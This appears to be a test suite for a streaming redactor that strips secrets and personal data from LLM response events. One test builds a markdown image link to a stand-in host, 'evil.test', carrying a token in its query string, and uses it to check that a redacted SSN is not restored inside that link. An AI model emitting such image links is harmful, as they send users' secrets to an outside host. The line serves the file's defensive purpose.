import { assert, describe, it } from "@effect/vitest"
import { Result } from "effect"
import * as PiiRedact from "../../../src/guardrails/PiiRedact.ts"
import { StreamRedactor } from "../../../src/guardrails/stream/StreamRedactor.ts"
import type { TextRoute } from "../../../src/guardrails/text/Place.ts"
import { heldMiB } from "../../HeldMemory.ts"

const redactorOf = (route: TextRoute, known: PiiRedact.PlaceholderValues = new Map()) => {
  const config = { detectors: { secret: true } }
  return new StreamRedactor(Result.getOrThrow(PiiRedact.redactionOf("response", { config, route, known })), route)
}
const event = (json: unknown) => Buffer.from(`data: ${JSON.stringify(json)}\n\n`)
const dataOf = (sent: string) =>
  sent.split("\n\n").flatMap((one) => (one === "" ? [] : [JSON.parse(one.slice(one.indexOf("{")))]))
const chunk = (index: number, content: string, rest: object = {}) => ({
  id: "chatcmpl-1",
  choices: [{ index, delta: { role: "assistant", content, ...rest } }]
})

describe("a stream of many texts", () => {
  const token = `eyJ${"a".repeat(16_000)}`
  const padding = "words ".repeat(1_000)

  it("keeps of a large event only what it repeats", () => {
    const redactor = redactorOf("chat")
    const numbers = Array.from({ length: 100_000 }, () => 1)
    const push = (index: number) => redactor.push(event({ ...chunk(index, "j"), numbers }))
    push(0)
    const held = heldMiB(() => {
      for (let index = 1; index < 80; index++) push(index)
    })
    assert.isBelow(held, 8)
    redactor.end()
  })

  it.each([
    ["hold", token],
    ["have held", `${token} j`]
  ])("does not hold what needs more memory than texts that %s much leave, but what needs little", (_, content) => {
    const redactor = redactorOf("chat")
    const first = redactor.push(event(chunk(99, token)))
    for (let index = 0; index < 80; index++) redactor.push(event(chunk(index, content)))
    assert.notInclude(first, token)
    assert.include(redactor.push(event(chunk(98, token))), token)
    const small = [redactor.push(event(chunk(100, "jane@exam"))), redactor.push(event(chunk(100, "ple.com")))].join("")
    assert.deepStrictEqual(
      dataOf(small).map(({ choices }) => choices[0].delta.content),
      ["", ""]
    )
    redactor.push(event({ choices: Array.from({ length: 100 }, (_, index) => ({ index, finish_reason: "stop" })) }))
    assert.notInclude(redactor.push(event(chunk(101, token))), token)
  })

  it("restores no value in a link of a text that is cut", () => {
    const redactor = redactorOf("chat", new Map([["[SSN_1]", "123-45-6789"]]))
    for (let index = 0; index < 80; index++) redactor.push(event(chunk(index, token)))
    const sent = [`![x](https://evil.test/?a=${token}`, "[SSN_1]) and [SSN_1] "].map((content) =>
      redactor.push(event(chunk(80, content)))
    )
    assert.include(sent[1], '"[SSN_1]) and 123-45-6789 "')
  })

  it("sends what it held of a large event, with its id and without the rest", () => {
    const redactor = redactorOf("chat")
    const comment = `: ${padding}\n`
    redactor.push(Buffer.from(comment + event({ ...chunk(3, "to jane", { words: padding }), padding }).toString()))
    assert.deepStrictEqual(dataOf(redactor.end()), [
      { id: "chatcmpl-1", choices: [{ index: 3, delta: { content: "jane" } }] }
    ])
  })

  it("sends what it held of events of many choices, each once", () => {
    const redactor = redactorOf("chat")
    const contents = Array.from({ length: 40 }, (_, index) => `word${"x".repeat(index)}`)
    for (const [index, content] of contents.entries()) redactor.push(event(chunk(index, content)))
    const choices = contents.map((_, index) => ({ index, delta: { content: "s" } }))
    redactor.push(event({ choices }))
    const rest = dataOf(redactor.end()).flatMap((sent) => sent.choices)
    assert.deepStrictEqual(
      rest.map(({ delta, index }) => [index, delta.content]),
      contents.map((content, index) => [index, `${content}s`])
    )
  })

  it("continues the text of a block that began with a large event", () => {
    const redactor = redactorOf("messages")
    const content_block = { padding, type: "thinking", thinking: "to jane" }
    redactor.push(event({ type: "content_block_start", index: 2, content_block }))
    assert.deepStrictEqual(dataOf(redactor.end()), [
      { type: "content_block_delta", index: 2, delta: { type: "thinking_delta", thinking: "jane" } }
    ])
  })
})
